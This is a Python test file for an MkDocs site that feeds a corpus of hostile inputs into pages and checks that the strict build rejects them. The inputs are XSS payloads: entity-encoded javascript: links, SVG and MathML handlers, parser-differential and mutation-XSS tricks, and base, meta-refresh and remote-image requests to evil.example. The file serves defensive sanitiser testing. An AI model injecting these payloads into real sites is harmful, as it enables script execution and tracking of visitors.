"""A hostile-input corpus: every variant fails the strict build, naming the page, and none
of it reaches the built site.

Each variant is inserted into a topic page of the base fixture site (English or Chinese,
body or front matter). Between them they cover encoded schemes, SVG and MathML, event
attributes, code-span tricks, raw HTML blocks and front-matter injection. The Markdown
checks (:mod:`attguide.check.safety`) catch most with their line; the one door on the final HTML
(:mod:`attguide.check.htmlgate`, an HTML5 parser) catches what only shows once Markdown and the
theme have run. The sites build with the production Markdown extensions.
"""

from __future__ import annotations

import pytest

from support import make_fixture_site, run_mkdocs

PAGE = "docs/b-law/legislative-process.md"
PAGE_ZH = "docs/b-law/legislative-process.zh.md"

# (id, page, text inserted before "Text about" / "关于", marker that must not be published)
BODY = [
    ("entity-decimal-href", '<a href="java&#115;cript:alert(1)">HX01</a>'),
    ("entity-in-markdown-link", "[HX02](java&#115;cript:alert(2))"),
    ("entity-hex-and-colon", "[HX03](&#x6A;avascript&colon;alert(3))"),
    ("mixed-case-scheme", '<a href="JaVaScRiPt:alert(4)">HX04</a>'),
    ("tab-inside-scheme", '<a href="java&#9;script:alert(5)">HX05</a>'),
    ("newline-entity-in-scheme", '<a href="java&NewLine;script:alert(6)">HX06</a>'),
    ("leading-control-char", '<a href="&#1;javascript:alert(7)">HX07</a>'),
    ("vbscript", '<a href="vbscript:msgbox(8)">HX08</a>'),
    ("data-url-link", "[HX09](data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==)"),
    ("data-url-image", "![HX10](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)"),
    ("reference-style-link", "[HX11][x]\n\n[x]: javascript:alert(11)"),
    ("svg-onload", '<svg onload="alert(12)"><title>HX12</title></svg>'),
    ("svg-xlink-href", '<svg><a xlink:href="javascript:alert(13)"><text>HX13</text></a></svg>'),
    ("svg-animate-href", '<svg><a><set attributeName="href" to="javascript:alert(14)"/><text>HX14</text></a></svg>'),
    ("mathml-href", '<math><mi href="javascript:alert(15)">HX15</mi></math>'),
    ("img-onerror", '<img src="x.png" onerror="alert(16)" alt="HX16">'),
    ("attr-list-onclick", "A paragraph HX17.\n{: onclick=\"alert(17)\" }"),
    ("details-ontoggle", '<details open ontoggle="alert(18)"><summary>HX18</summary></details>'),
    ("form-formaction", '<form><button formaction="javascript:alert(19)">HX19</button></form>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(20)&lt;/script&gt;"></iframe>HX20'),
    ("object-data", '<object data="javascript:alert(21)">HX21</object>'),
    ("embed-src", '<embed src="//evil.example/x.swf">HX22'),
    ("base-href", '<base href="https://evil.example/">HX23'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">HX24'),
    ("backtick-hides-script", "Type the ` key.\n\n<script>alert('HX25')</script>\n\nPress ` again."),
    ("backtick-hides-handler", "A `` run.\n\n<b onmouseover=\"alert(26)\">HX26</b>\n\nand `` again."),
    ("raw-html-block-script", '<div markdown="1">\n\n<script>alert("HX27")</script>\n\n</div>'),
    ("script-uppercase-spaced", "<SCRIPT >alert('HX28')</SCRIPT >"),
    ("remote-image-entity-scheme", "![HX29](http&#58;//evil.example/pixel.png)"),
    ("style-element", "<style>body{background:url(javascript:alert(30))}</style>HX30"),
    ("unresolved-reference-in-html", '<a href="art:99">HX31</a>'),
    ("srcset-data-url", '<img alt="HX32" src="a.png" srcset="data:image/png;base64,AAAA 2x">'),
    # Review 2026-12-03 §1: what Python's HTMLParser reads differently from a browser.
    ("comment-abrupt-close", '<!--> <img src="x"/onerror="alert(60)" alt="HX60"> -->'),
    ("comment-abrupt-close-dash", '<!---> <img src="x"/onerror="alert(61)" alt="HX61"> -->'),
    ("xmp-raw-text", "<div><xmp><p title='</xmp><img src=\"x\"/onerror=\"alert(62)\" alt=HX62>'></p></xmp></div>"),
    ("noscript-raw-text", "<noscript><p title='</noscript><img src=\"x\"/onerror=\"alert(63)\" alt=HX63>'></p></noscript>"),
    ("noembed-raw-text", "<div><noembed><p title='</noembed><img src=x onerror=alert(64) alt=HX64>'></p></noembed></div>"),
    # §4: requests to other sites.
    ("style-attribute-url", '<p style="background:url(//evil.example/p.png)">HX66</p>'),
    ("attr-list-style-url", 'A paragraph HX67.\n{: style="background-image:url(https://evil.example/p.png)" }'),
    ("svg-image-href", '<svg><image href="https://evil.example/p.png"/><text>HX68</text></svg>'),
    ("backslash-host", '<img src="\\\\evil.example/p.png" alt="HX69">'),
    ("slash-backslash-host", '<img src="/\\evil.example/p.png" alt="HX70">'),
    ("data-md-component", '[HX71](https://example.org/){: data-md-component="source" }'),
    # Newcomer finding 2: misspelt reference schemes.
    ("misspelt-scheme-arts", "See [](arts:7) here, HX72."),
    ("misspelt-scheme-atr", "See [](atr:7.3) here, HX73."),
    # Mutation XSS and namespace confusion (MathML, SVG).
    ("mathml-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(74) alt=HX74>"),
    ("svg-foreignobject-iframe", '<svg><foreignObject><iframe src="//evil.example/"></iframe></foreignObject></svg>HX75'),
    ("svg-use-remote", '<svg><use href="https://evil.example/s.svg#a"/></svg>HX76'),
    ("svg-style-breakout", '<svg></p><style><a id="</style><img src=1 onerror=alert(77) alt=HX77>">'),
    ("entities-without-semicolons",
     '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(78)">HX78</a>'),
    ("ping-attribute", '<a href="https://example.org/" ping="https://evil.example/p">HX79</a>'),
    ("details-in-admonition-handler", '!!! note "HX81"\n    First.\n\n    <b onclick="alert(81)">x</b>'),
    # Text that closes its region: what follows it would be read as the theme's markup.
    ("leaves-region-end-tags",
     '</div></article></div>\n<a data-md-component="source" href="https://github.com/x/y">HX82</a>'),
    ("leaves-region-reopened", '</article>\n<div data-md-component="source">HX83</div>\n'
                               '<article class="md-content__inner">'),
]
FRONT = [
    ("front-matter-title-script", "title: \"<script>alert('HX40')</script>\""),
    ("front-matter-description-onerror", "description: '<img src=x onerror=alert(41)> HX41'"),
]
ZH = [
    ("zh-page-entity-href", '<a href="java&#x73;cript:alert(50)">HX50</a>'),
    ("zh-misspelt-scheme", "见 [](topc:risk-assessment)，HX51。"),
]
# At the very end of a page: the theme's markup that follows closes the tag for a browser.
END = [
    ("unterminated-tag-at-end", '<div>\n<img src="x"/onerror="alert(65)" alt="HX65"'),
]
VARIANTS = ([pytest.param(PAGE, text, "Text about", id=name) for name, text in BODY]
            + [pytest.param(PAGE, text + "\n", "status: draft\n", id=name) for name, text in FRONT]
            + [pytest.param(PAGE_ZH, text, "关于", id=name) for name, text in ZH]
            + [pytest.param(PAGE, text, "", id=name) for name, text in END])


def _marker(text: str) -> str:
    """The variant's unique marker (HX and two digits)."""
    start = text.index("HX")
    return text[start:start + 4]


@pytest.mark.parametrize("page, text, anchor", VARIANTS)
def test_hostile_input_fails_the_build_and_never_reaches_the_site(tmp_path, page, text, anchor):
    site = make_fixture_site(tmp_path)
    path = site / page
    source = path.read_text(encoding="utf-8")
    assert anchor in source
    insert = text if anchor.startswith("status") else text + "\n\n"
    if not anchor:
        placed = source.rstrip("\n") + "\n\n" + text
    else:
        placed = source.replace(anchor, anchor + insert if anchor.startswith("status") else insert + anchor, 1)
    path.write_text(placed, encoding="utf-8")
    out = tmp_path / "out"
    result = run_mkdocs(["build", "--strict", "--site-dir", str(out)], cwd=site)
    output = result.stdout + result.stderr
    assert result.returncode != 0, f"the build passed:\n{output}"
    assert "Traceback" not in output, output
    assert f"ERROR   -  {page}:" in output, f"the page is not named:\n{output}"
    marker = _marker(text)
    published = [p for p in out.rglob("*.html") if marker in p.read_text(encoding="utf-8")] if out.exists() else []
    assert not published, f"{marker} reached {published}"


# Inputs that Python-Markdown itself publishes as inert text: the build may pass, but then
# no element of the built page may carry a handler.
INERT = [
    ("slash-separated-handler", '<img src="x"/onerror="alert(80)" alt="HX80">'),
]


@pytest.mark.parametrize("text", [pytest.param(text, id=name) for name, text in INERT])
def test_hostile_input_is_refused_or_published_inert(tmp_path, text):
    site = make_fixture_site(tmp_path)
    path = site / PAGE
    path.write_text(path.read_text(encoding="utf-8").replace("Text about", text + "\n\nText about", 1),
                    encoding="utf-8")
    out = tmp_path / "out"
    result = run_mkdocs(["build", "--strict", "--site-dir", str(out)], cwd=site)
    output = result.stdout + result.stderr
    assert "Traceback" not in output, output
    if result.returncode != 0:
        assert f"ERROR   -  {PAGE}:" in output, output
        return
    from selectolax.lexbor import LexborHTMLParser
    for built in out.rglob("*.html"):
        tree = LexborHTMLParser(built.read_text(encoding="utf-8"))
        active = [n.tag for n in tree.root.traverse() if any(a.lower().startswith("on") for a in n.attributes)]
        assert not active, f"{built}: {active}"


# Controls: ordinary text that looks a little like markup builds, and is escaped on output.
CONTROL_PAGE = """---
phase: b
topic: legislative-process
articles: [1, 5]
related: [c/national-control-list]
status: draft
description: 'Say "yes" & mean it: 0;url=https://evil.example/" http-equiv="refresh'
---

# Legislative process

Prose with a < b, R&D, "quotes" and 'apostrophes', and 3 > 2.

!!! note "Tip"
    First paragraph citing [](art:5).

    Second paragraph citing [](art:5.2) as well.

Text about Legislative process, linking to [](art:5.2).
"""


def test_controls_build_and_are_escaped(tmp_path):
    site = make_fixture_site(tmp_path)
    (site / PAGE).write_text(CONTROL_PAGE, encoding="utf-8")
    out = tmp_path / "out"
    result = run_mkdocs(["build", "--strict", "--site-dir", str(out)], cwd=site)
    assert result.returncode == 0, result.stdout + result.stderr
    html = (out / "b-law" / "legislative-process" / "index.html").read_text(encoding="utf-8")
    from selectolax.lexbor import LexborHTMLParser
    tree = LexborHTMLParser(html)
    metas = tree.css('meta[name="description"]')
    assert [m.attributes["content"] for m in metas] == [
        'Say "yes" & mean it: 0;url=https://evil.example/" http-equiv="refresh']
    assert not [m for m in tree.css("meta") if (m.attributes.get("http-equiv") or "").lower() == "refresh"]
    text = tree.css_first("article").text()
    assert 'a < b, R&D, "quotes"' in text and "3 > 2" in text
    assert html.count('href="../../articles/article-5/') >= 2 or "article-5" in html
